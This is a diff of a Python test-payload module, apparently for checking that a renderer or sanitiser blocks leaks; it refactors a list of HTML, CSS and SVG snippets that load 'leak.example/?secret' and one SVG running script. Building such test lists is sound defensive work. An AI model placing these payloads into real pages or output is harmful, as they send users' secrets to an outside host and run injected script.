@@ -30,6 +30,7 @@ def payloads() -> list[str]:
     return list(dict.fromkeys([*scripts, *links, *LEAKS]))
 
 
+SVG = "http://www.w3.org/2000/svg"
 LEAK = "https://leak.example/?secret"
 LEAKS = [
     f"![x]({LEAK})",
@@ -42,14 +43,14 @@ LEAKS = [
     f'<picture><source srcset="{LEAK}"><img src="{LEAK}"></picture>',
     f'<link rel="preload" as="image" href="{LEAK}"><link rel="dns-prefetch" href="//leak.example">',
     f'<link rel=stylesheet href="{LEAK}"><style>@import "{LEAK}"; * {{background: url({LEAK})}}</style>',
-    f'<table class="dataframe" style="background: url({LEAK})" background="{LEAK}"><tr><td style="content: url({LEAK})">1</table>',
+    f'<table class="dataframe" style="background: url({LEAK})" background="{LEAK}"><tr><td style="content: url({LEAK})">1',
     f'<td style="--x: url({LEAK}); background: var(--x); list-style: url({LEAK}); cursor: url({LEAK}), auto">x',
     f"<p style=\"background-image: image-set('{LEAK}' 1x); border-image: url({LEAK}) 1\">x</p>",
-    f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{LEAK}"/><use href="{LEAK}#x"/></svg>',
-    f'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{LEAK}"/></foreignObject></svg>',
-    f'<svg xmlns="http://www.w3.org/2000/svg"><style>* {{fill: url({LEAK}#f)}}</style><rect width="9" height="9"/></svg>',
-    f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script><a href="{LEAK}"><rect width="9"/></a></svg>',
-    f'<?xml-stylesheet href="{LEAK}"?><svg xmlns="http://www.w3.org/2000/svg"/>',
+    f'<svg xmlns="{SVG}"><image href="{LEAK}"/><use href="{LEAK}#x"/></svg>',
+    f'<svg xmlns="{SVG}"><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="{LEAK}"/></foreignObject></svg>',
+    f'<svg xmlns="{SVG}"><style>* {{fill: url({LEAK}#f)}}</style><rect width="9" height="9"/></svg>',
+    f'<svg xmlns="{SVG}" onload="alert(1)"><script>alert(1)</script><a href="{LEAK}"><rect width="9"/></a></svg>',
+    f'<?xml-stylesheet href="{LEAK}"?><svg xmlns="{SVG}"/>',
     f'<video poster="{LEAK}" src="{LEAK}"><track src="{LEAK}"></video><audio src="{LEAK}"></audio>',
     f'<iframe src="{LEAK}" srcdoc="<img src={LEAK}>"></iframe><object data="{LEAK}"></object><embed src="{LEAK}">',
     f'<meta http-equiv="refresh" content="0; url={LEAK}"><base href="{LEAK}">',
@@ -98,7 +99,7 @@ LONG = [
     "\u200b" * 2000,
     "\n" * 2000,
     "(" * 2000,
-    "🏳️‍🌈" * 500,
+    "\U0001f3f3\ufe0f\u200d\U0001f308" * 500,
 ]
 
 
